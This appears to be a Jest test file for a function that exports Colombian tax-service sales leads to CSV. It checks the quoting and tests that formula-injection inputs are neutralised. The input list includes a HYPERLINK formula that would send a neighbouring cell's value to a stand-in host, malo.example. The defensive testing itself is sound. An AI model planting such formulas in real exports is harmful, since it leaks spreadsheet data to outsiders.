/** @jest-environment node */
import { parse } from 'csv-parse/sync';

import { pages } from '@/content/pages';

import { leadsCsv } from './leads-csv';
import { sampleLead } from './testing/sample-lead';

const ana = {
  ...sampleLead,
  receivedAt: Date.parse('2026-11-22T01:05:09Z'),
  times: 2,
  name: 'Ana "la contadora", Peña',
  services: 'Declaración de Renta, RUT',
  message: 'uno\r\ndos',
  page: '',
};

test('a Colombian spreadsheet opens the table in columns, with days and hours that it reads', () => {
  expect(
    leadsCsv([
      { ...ana, page: pages.incomeTax.path },
      { ...ana, id: 3, doneAt: 1 },
    ]),
  ).toBe(
    [
      '\uFEFFFecha;Hora;Estado;Nombre;Celular;Correo;Servicios;Mensaje;Página;Veces;Contacto',
      `2026-11-21;20:05;espera;"Ana ""la contadora"", Peña";300 123 4567;ana@correo.example;Declaración de Renta, RUT;"uno\r\ndos";${pages.incomeTax.label};2;12`,
      '2026-11-21;20:05;respondido;"Ana ""la contadora"", Peña";300 123 4567;ana@correo.example;Declaración de Renta, RUT;"uno\r\ndos";;2;3',
      '',
    ].join('\r\n'),
  );
});

test.each([
  '=1+1',
  '+57',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '＝1+1',
  ' =1+1',
  '\r=1',
  'hola;=HYPERLINK("http://malo.example/?"&A2;"ver")',
  'a,=1+1',
  'a\t=1+1',
  'a\n=1+1',
  'a,"=1+1"',
  '";=1+1',
  '",=1+1',
])('a spreadsheet reads no formula in %j, whatever its delimiter', (typed) => {
  for (const delimiter of [';', ',', '\t']) {
    for (const field of ['name', 'message']) {
      const rows: string[][] = parse(leadsCsv([{ ...ana, [field]: typed }]), {
        delimiter,
        bom: true,
        relax_quotes: true,
        relax_column_count: true,
      });
      expect(rows.flat().filter((cell) => /^["\s]*[=+@＝-]/.test(cell))).toEqual([]);
    }
  }
});

test.each(['uno\rdos', 'uno\ndos', '\r=1'])('a spreadsheet keeps %j in one cell', (typed) => {
  expect(leadsCsv([{ ...ana, message: typed }]).replaceAll("'", '')).toContain(`;"${typed}";`);
});
